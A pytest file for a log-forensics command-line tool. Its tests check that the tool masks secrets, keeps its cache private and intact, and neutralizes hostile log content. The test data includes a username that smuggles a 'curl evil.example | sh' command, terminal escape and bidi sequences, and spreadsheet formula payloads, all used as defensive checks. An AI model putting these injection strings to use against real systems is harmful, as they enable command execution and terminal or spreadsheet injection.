"""The red-team defects of issue 18: each test failed before its fix, and asserts what a user would see."""

import base64
import json
import os
import shlex
import subprocess
import sys
import tarfile
import zipfile

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from forensics_cli.analyses.bruteforce import detect
from forensics_cli.render.safe import spreadsheet_safe
from forensics_cli.shellquote import shell_quoted
from tests.conftest import ROOT, at, events_frame, rows_of, seed_line, write_log
from tests.test_bruteforce import fail, ok


def _jwt(claims: bytes) -> str:
    def part(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()

    header = part(b'{"alg":"HS256","typ":"JWT"}')
    return f"{header}.{part(claims)}.abcdefghijklmnopqrstuvwxyz012345"


def test_a_jwt_expiring_in_the_year_3e12_is_a_finding_not_a_crash(tmp_path, run):
    token = _jwt(b'{"sub":"x","exp":1e20}')
    write_log(tmp_path / "a.log", [seed_line(at(0), request_id="r1", authorization="Bearer " + token)])
    result = run("scan-secrets", "-q", "--format", "jsonl", tmp_path)
    (finding,) = rows_of(result)
    assert result.exit_code == 1 and finding["rule"] == "jwt" and "not a valid time" in finding["detail"]
    shown = run("timeline", "-q", "--request-id", "r1", "--raw", "--format", "jsonl", tmp_path)
    assert shown.exit_code == 0 and token not in shown.stdout and rows_of(shown)[0]["line"] == 1


def test_a_non_ascii_basic_credential_does_not_abort_the_scan(tmp_path, run):
    write_log(
        tmp_path / "a.log",
        [
            seed_line(at(0), request_id="r1", headers={"Authorization": "Basic é"}),
            seed_line(at(1), request_id="r2", password="Hunter2-Hunter2-Hunter2"),
        ],
    )
    result = run("scan-secrets", "-q", "--format", "jsonl", tmp_path)
    assert result.exit_code == 1 and [r["line"] for r in rows_of(result)] == [2]


def test_impossible_offsets_and_unreadable_times_are_counted_and_make_ingest_exit_1(tmp_path, run):
    write_log(
        tmp_path / "a.log",
        [
            {"timestamp": "2026-11-18T10:00:00+24:00", "request_id": "r1"},
            {"timestamp": "0001-01-01T00:00:00-23:00", "request_id": "r2"},
            {"timestamp": "2026-11-20T10:00:00 America/New_York", "request_id": "r3"},
            {"timestamp": "2026-11-18T10:00:01Z", "request_id": "r4"},
            {"request_id": "r5"},  # no time at all: untimed, not unreadable
        ],
    )
    result = run("ingest", "--format", "jsonl", "-q", tmp_path)
    (row,) = rows_of(result)
    assert result.exit_code == 1
    assert (row["status"], row["bad_time"], row["timed"]) == ("bad_timestamps", 3, 1)
    assert "lines 1, 2, 3" in row["reason"]
    timeline = run("timeline", "-q", "--request-id", "r4", "--format", "jsonl", tmp_path)
    assert [r["line"] for r in rows_of(timeline)] == [4]


def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(tmp_path, run):
    directory = os.fsencode(tmp_path / "logs")
    os.makedirs(directory)
    with open(os.path.join(directory, b"\xff\xfe.log"), "w") as handle:
        handle.write(json.dumps(seed_line(at(0), request_id="r1")) + "\n")
    for extra in ([], ["--no-cache"]):
        (row,) = rows_of(run("ingest", "--format", "jsonl", "-q", *extra, tmp_path / "logs"))
        assert (row["status"], row["parsed"]) == ("ok", 1) and row["file"].endswith("\\xff\\xfe.log")
    found = rows_of(run("timeline", "-q", "--request-id", "r1", "--format", "jsonl", tmp_path / "logs"))
    assert [r["file"].split("/")[-1] for r in found] == ["\\xff\\xfe.log"]


def test_internal_errors_have_their_own_exit_code(tmp_path, run, monkeypatch):
    from forensics_cli.analyses import timeline

    write_log(tmp_path / "a.log", [seed_line(at(0), request_id="r1")])
    monkeypatch.setattr(timeline, "build_timeline", lambda *a, **k: 1 / 0)
    from forensics_cli.cli import commands

    monkeypatch.setattr(commands, "build_timeline", lambda *a, **k: 1 / 0)
    result = run("timeline", "-q", "--request-id", "r1", tmp_path)
    assert result.exit_code == 3 and result.stderr.startswith("Error: internal error: ZeroDivisionError")
    assert run("timeline", "-q", tmp_path).exit_code == 2  # a usage error stays 2


# --- the cache -------------------------------------------------------------------------------------


def _brute_force_log(path, failures: int):
    lines = [
        seed_line(at(i), request_id=f"r{i}", path="/login", status=401, ip="203.0.113.9", user_id="alice")
        for i in range(failures)
    ]
    return write_log(path, lines)


def test_a_timestomped_rewrite_is_read_again_not_served_from_the_cache(tmp_path, run):
    logs = tmp_path / "logs"
    log = _brute_force_log(logs / "auth.log", 40)
    first = run("bruteforce", "-q", "--format", "jsonl", logs)
    assert first.exit_code == 1 and len(rows_of(first)) == 1
    before = os.stat(log)
    innocent = [seed_line(at(i), request_id=f"r{i}", path="/login", status=200) for i in range(40)]
    text = "\n".join(json.dumps(x) for x in innocent) + "\n"
    assert len(text) <= before.st_size
    log.write_text(text.ljust(before.st_size - 1) + "\n")  # same size, same inode
    os.utime(log, ns=(before.st_atime_ns, before.st_mtime_ns))  # touch -r: mtime put back
    assert os.stat(log).st_mtime_ns == before.st_mtime_ns and os.stat(log).st_size == before.st_size
    second = run("bruteforce", "-q", "--format", "jsonl", logs)
    assert second.exit_code == 0 and rows_of(second) == []
    (row,) = rows_of(run("ingest", "-q", "--format", "jsonl", logs))
    import hashlib

    assert row["sha256"] == hashlib.sha256(log.read_bytes()).hexdigest()


def test_the_cache_is_private_to_its_owner(tmp_path, run):
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o755)
    os.chmod(cache, 0o755)  # an existing cache directory others can read
    write_log(tmp_path / "logs" / "a.log", [seed_line(at(0), request_id="r1", password="Hunter2-Hunter2")])
    assert run("ingest", "-q", "--cache-dir", cache, tmp_path / "logs").exit_code == 0
    assert cache.stat().st_mode & 0o777 == 0o700
    stored = [p for p in cache.rglob("*") if p.is_file()]
    assert any(p.suffix == ".parquet" for p in stored)
    assert all(p.stat().st_mode & 0o077 == 0 for p in stored), [oct(p.stat().st_mode) for p in stored]
    assert all(p.stat().st_mode & 0o077 == 0 for p in cache.rglob("*") if p.is_dir())


def test_a_cache_part_cut_short_is_dropped_and_the_file_read_again(tmp_path, run):
    cache = tmp_path / "cache"
    logs = tmp_path / "logs"
    write_log(logs / "a.log", [seed_line(at(i), request_id=f"r{i}") for i in range(50)])
    run("ingest", "-q", "--cache-dir", cache, logs)
    (part,) = [p for p in cache.rglob("part-*.parquet")]
    part.write_bytes(part.read_bytes()[: part.stat().st_size // 2])  # a full disk, a crash
    for command in (["timeline", "--request-id", "r7"], ["gaps"], ["scan-secrets"]):
        result = run(*command, "-q", "--format", "jsonl", "--cache-dir", cache, logs)
        assert result.exit_code in (0, 1), result.stderr
    found = rows_of(
        run("timeline", "-q", "--request-id", "r7", "--format", "jsonl", "--cache-dir", cache, logs)
    )
    assert [r["line"] for r in found] == [8]


def test_cache_clear_waits_for_no_reader_and_says_so(tmp_path, run):
    from forensics_cli.cache import EventCache, release_locks

    cache = tmp_path / "cache"
    write_log(tmp_path / "logs" / "a.log", [seed_line(at(0), request_id="r1")])
    run("ingest", "-q", "--cache-dir", cache, tmp_path / "logs")
    reader = EventCache(cache, "x")
    reader.open_for_reading()  # another command is reading
    busy = run("cache", "clear", "--cache-dir", cache)
    assert busy.exit_code == 2 and "another apiforensics command" in busy.stderr
    assert list(cache.rglob("part-*.parquet"))
    release_locks()
    assert run("cache", "clear", "--cache-dir", cache).exit_code == 0
    assert not list(cache.rglob("part-*.parquet"))


# --- checks that need an unprivileged user (CI runs as root, and root reads anything) ---------------


def _as_nobody(*args, cwd):
    """Run the CLI as the unprivileged user `nobody` (setpriv); skipped where that cannot be done."""
    if os.geteuid() != 0:
        command = [sys.executable, "-m", "forensics_cli", *map(str, args)]
    else:
        setpriv = "/usr/bin/setpriv"
        if not os.path.exists(setpriv):
            pytest.skip("running as root without setpriv: cannot drop privileges to test permissions")
        command = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-m"]
        command += ["forensics_cli", *map(str, args)]
    env = {"PATH": "/usr/bin:/bin", "HOME": str(cwd), "PYTHONPATH": str(ROOT), "COLUMNS": "200"}
    env["APIFORENSICS_CACHE_DIR"] = str(cwd / "cache")
    return subprocess.run(command, cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


@pytest.fixture
def shared_dir(tmp_path_factory):
    """A directory `nobody` can enter (pytest's temporary directories are private to root)."""
    import tempfile

    directory = tempfile.mkdtemp(prefix="apiforensics-perm-", dir="/tmp")
    os.chmod(directory, 0o777)
    yield __import__("pathlib").Path(directory)
    subprocess.run(["rm", "-rf", directory], check=False)


@pytest.mark.parametrize("cache", ["with cache", "--no-cache"])
def test_a_permission_denied_file_is_reported_and_the_rest_analysed(shared_dir, cache):
    logs = shared_dir / "logs"
    write_log(logs / "ok.log", [seed_line(at(0), request_id="r1")])
    write_log(logs / "locked.log", [seed_line(at(1), request_id="r2")]).chmod(0o000)
    os.chmod(logs, 0o755)
    os.chmod(logs / "ok.log", 0o644)
    extra = ["--no-cache"] if cache == "--no-cache" else []
    result = _as_nobody("ingest", "--format", "jsonl", *extra, logs, cwd=shared_dir)
    rows = {json.loads(line)["file"].split("/")[-1]: json.loads(line) for line in result.stdout.splitlines()}
    assert result.returncode == 1, result.stderr
    assert rows["locked.log"]["status"] == "unreadable" and "ermission denied" in rows["locked.log"]["reason"]
    assert rows["ok.log"]["status"] == "ok"
    found = _as_nobody(
        "timeline", "-q", "--request-id", "r1", "--format", "jsonl", *extra, logs, cwd=shared_dir
    )
    assert found.returncode == 0 and json.loads(found.stdout)["line"] == 1


def test_a_password_hidden_behind_a_repeated_key_is_found_masked_and_sanitized(tmp_path, run):
    real = "Correct-Horse-Battery-9"
    lines = [
        '{"time": "2026-11-18 10:00:00,000", "message": {"request_id": "r1", "password": "%s", '
        '"password": "***"}}' % real,
        '{"time": "2026-11-18 10:00:01,000", "message": {"request_id": "r2", "password": "***", '
        '"password": "%s"}}' % real.replace("9", "8"),
    ]
    write_log(tmp_path / "logs" / "a.log", lines)
    logs = tmp_path / "logs"
    result = run("scan-secrets", "--format", "jsonl", "--write-sanitized", tmp_path / "clean", logs)
    assert result.exit_code == 1 and [r["line"] for r in rows_of(result)] == [1, 2]
    assert "2 lines with a secret repeat a JSON key" in result.stderr
    (copy,) = [p.read_text() for p in (tmp_path / "clean").rglob("a.log")]
    assert real not in copy and real.replace("9", "8") not in copy and copy.count('"***"') == 2
    shown = run("timeline", "-q", "--raw", "--request-id", "r1", "--format", "jsonl", logs)
    assert shown.exit_code == 0 and real not in shown.stdout and rows_of(shown)[0]["line"] == 1


def test_a_key_like_text_inside_a_string_is_not_a_repeated_key(tmp_path, run):
    body = '{\\"note\\": \\"x\\"}'  # a "key": token inside a string value
    write_log(
        tmp_path / "a.log",
        [
            '{"time": "2026-11-18 10:00:00,000", "message": {"body": "%s", "token": "%s"}}'
            % (body, "Tq8W3e5R7t9Y1u3I5xZ2kL7mN4pB6v")
        ],
    )
    result = run("scan-secrets", "--format", "jsonl", tmp_path)
    assert "repeat a JSON key" not in result.stderr
    (finding,) = rows_of(result)
    assert finding["field"] == "message.token" and "repeats a JSON key" not in finding["detail"]


def test_a_token_is_masked_in_every_printed_column_in_every_format(tmp_path, run):
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    write_log(
        tmp_path / "a.log",
        [
            seed_line(
                at(0),
                request_id="r1",
                event=f"login {token}",
                path=f"/api/hooks/{token}",
                user=token,
                headers={"Authorization": f"token {token}"},
            )
        ],
    )
    for fmt in ("jsonl", "csv", "table"):
        shown = run("timeline", "-q", "--request-id", "r1", "--format", fmt, tmp_path)
        assert shown.exit_code == 0 and token not in shown.stdout and "ghp_" in shown.stdout, fmt
        found = run("scan-secrets", "-q", "--format", fmt, tmp_path)
        assert found.exit_code == 1 and token not in found.stdout, fmt
    (row,) = rows_of(run("timeline", "-q", "--request-id", "r1", "--format", "jsonl", tmp_path))
    assert row["user"].startswith("ghp_A1") and row["path"].startswith("/api/hooks/ghp_")


@given(st.text(max_size=30))
def test_a_hint_word_is_quoted_as_shlex_quotes_it(word):
    quoted = pl.DataFrame({"w": [word]}).select(shell_quoted(pl.col("w"))).item()
    assert quoted == shlex.quote(word) and shlex.split(quoted) == [word]


def test_the_next_command_of_a_success_runs_nothing_from_the_log():
    user = "admin'; curl evil.example | sh; echo '$(id)"
    rows = [fail(i * 5, None, user) for i in range(12)] + [ok(70, None, user)]
    (detail,) = detect(events_frame(rows))["detail"].to_list()
    command = detail.split("next: ", 1)[1]
    assert shlex.split(command)[:4] == ["apiforensics", "timeline", "--user", user]


def test_a_directory_name_with_markup_and_escapes_reaches_the_ingest_title_inert(tmp_path, run):
    logs = tmp_path / "[bold red]case[/] \x1b]0;pwned\x07"
    write_log(logs / "a.log", [seed_line(at(0), request_id="r1")])
    result = run("ingest", "--no-cache", logs / "a.log")
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "[bold red]case[/]" in result.stdout and "\\x1b]0;pwned\\x07" in result.stdout


@pytest.mark.parametrize("cell", ["\x00=1+1", " =1+1", "\n=1+1", "\r\n@SUM(A1)", "\t-2", "\x00"])
def test_csv_cells_hiding_a_formula_behind_blanks_or_controls_are_neutralized(cell):
    safe = spreadsheet_safe(pl.DataFrame({"user": [cell, "alice", "a=b", "-"]}))
    assert safe["user"].to_list() == ["'" + cell, "alice", "a=b", "'-"]


def test_reading_the_evidence_keeps_its_access_times(tmp_path, run):
    logs = tmp_path / "logs"
    write_log(logs / "a.log", [seed_line(at(0), request_id="r1")])
    write_log(logs / "b.log.gz", [seed_line(at(1), request_id="r2")], gz=True)
    with zipfile.ZipFile(logs / "bundle.zip", "w") as bundle:
        bundle.writestr("c.log", json.dumps(seed_line(at(2), request_id="r3")) + "\n")
    with tarfile.open(logs / "bundle.tar.gz", "w:gz") as bundle:
        bundle.add(logs / "a.log", arcname="d.log")
    old = 1_700_000_000  # 2023: relatime would refresh an access time this old on the first read
    for path in logs.iterdir():
        os.utime(path, (old, path.stat().st_mtime))
    result = run("ingest", "-q", "--no-cache", "--format", "jsonl", logs)
    assert result.exit_code == 0 and sum(r["parsed"] for r in rows_of(result)) == 4
    assert {p.name: p.stat().st_atime for p in logs.iterdir()} == dict.fromkeys(
        ["a.log", "b.log.gz", "bundle.zip", "bundle.tar.gz"], old
    )


def test_a_file_that_is_not_a_log_is_sniffed_before_it_is_hashed(tmp_path, run, monkeypatch):
    logs = tmp_path / "logs"
    write_log(logs / "api.log", [seed_line(at(0), request_id="r1")])
    with open(logs / "disk.img", "wb") as sparse:
        sparse.truncate(1 << 30)  # 1 GiB of holes: hashing it would read it all
    import forensics_cli.cache as cache_module

    hashed = []
    real_hash = cache_module.file_sha256
    monkeypatch.setattr(cache_module, "file_sha256", lambda path: hashed.append(path) or real_hash(path))
    result = run("ingest", "-q", "--format", "jsonl", "--cache-dir", tmp_path / "cache", logs)
    rows = {os.path.basename(r["file"]): r for r in rows_of(result)}
    assert (rows["disk.img"]["status"], rows["disk.img"]["reason"]) == (
        "not_a_log",
        "binary content (NUL bytes)",
    )
    assert [os.path.basename(p) for p in hashed] == ["api.log"] and rows["api.log"]["status"] == "ok"


def test_no_format_carries_escapes_or_bidi_overrides_to_the_terminal(tmp_path, run):
    user = "eve\x1b]0;pwned\x07\u202etxt\x85"
    write_log(tmp_path / "a.log", [seed_line(at(0), request_id="r1", user_id=user)])
    for fmt in ("csv", "json", "jsonl", "table"):
        out = run("timeline", "-q", "--request-id", "r1", "--format", fmt, tmp_path).stdout
        assert not any(c in out for c in "\x1b\x07\u202e\x85"), fmt
    (row,) = rows_of(run("timeline", "-q", "--request-id", "r1", "--format", "jsonl", tmp_path))
    assert row["user"] == user  # JSON escapes are lossless
    raw = run("timeline", "-q", "--request-id", "r1", "--format", "csv", "--raw-csv", tmp_path).stdout
    assert user in raw


def test_durations_beyond_int64_do_not_abort_the_timeline(tmp_path, run):
    write_log(
        tmp_path / "a.log",
        [
            seed_line(at(0), request_id="r1", duration_ms=1e20),
            {
                "time_iso8601": "2026-11-18T10:00:01+00:00",
                "remote_addr": "203.0.113.5",
                "request": "GET / HTTP/1.1",
                "status": "200",
                "request_time": "1e300",
                "request_id": "r1",
            },
        ],
    )
    result = run("timeline", "-q", "--request-id", "r1", "--format", "jsonl", tmp_path)
    assert result.exit_code == 0 and [r["line"] for r in rows_of(result)] == [1, 2]


@pytest.mark.parametrize("size, sniffed", [(1 << 20, False), ((1 << 20) + 1, True)])
def test_only_files_over_a_mebibyte_are_sniffed_before_hashing(tmp_path, size, sniffed):
    from forensics_cli.cache import EventCache
    from forensics_cli.discover import discover
    from forensics_cli.load import _worth_sniffing_first

    with open(tmp_path / "x.log", "wb") as handle:
        handle.truncate(size)
    (candidate,) = discover([str(tmp_path / "x.log")])
    cache = EventCache(tmp_path / "cache", "k")
    assert _worth_sniffing_first(candidate, cache) is sniffed
    assert _worth_sniffing_first(candidate, None) is False


def test_a_large_log_sniffed_before_hashing_is_not_sniffed_again(tmp_path, run, monkeypatch):
    import forensics_cli.load as load_module

    logs = tmp_path / "logs"
    write_log(logs / "big.log", [seed_line(at(i), request_id=f"r{i}", pad="x" * 300) for i in range(4000)])
    assert (logs / "big.log").stat().st_size > (1 << 20)
    sniffed = []
    real_sniff = load_module.sniff
    monkeypatch.setattr(load_module, "sniff", lambda path: sniffed.append(path) or real_sniff(path))
    result = run("ingest", "-q", "--format", "jsonl", "--cache-dir", tmp_path / "cache", logs)
    (row,) = rows_of(result)
    assert [os.path.basename(p) for p in sniffed] == ["big.log"]
    assert (row["status"], row["compression"], row["parsed"]) == ("ok", "none", 4000)


def test_sigterm_mid_run_removes_the_scratch_directory_of_raw_lines(tmp_path):
    import signal
    import time

    logs = tmp_path / "logs"
    for index in range(3):  # enough lines that the run is still reading when the signal comes
        write_log(
            logs / f"app{index}.log",
            [seed_line(at(i), request_id=f"r{i}", pad="x" * 400) for i in range(60_000)],
        )
    scratch_parent = tmp_path / "tmp"
    scratch_parent.mkdir()
    env = {**os.environ, "TMPDIR": str(scratch_parent)}
    command = [
        sys.executable,
        "-c",
        "from forensics_cli.cli import main; main()",
        "ingest",
        "-q",
        "--no-cache",
    ]
    process = subprocess.Popen(
        [*command, str(logs)], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
    )
    deadline = time.monotonic() + 60
    while not any(scratch_parent.glob("apiforensics-*/*")) and process.poll() is None:
        assert time.monotonic() < deadline, "the run never made its scratch directory"
        time.sleep(0.01)
    assert process.poll() is None, "the run ended before it could be stopped: give it more to read"
    process.send_signal(signal.SIGTERM)
    assert process.wait(timeout=30) == 128 + signal.SIGTERM
    assert list(scratch_parent.iterdir()) == []
    time.sleep(2)  # worker processes (81 MB to read: more than threads take) must not write on after it
    assert list(scratch_parent.iterdir()) == []
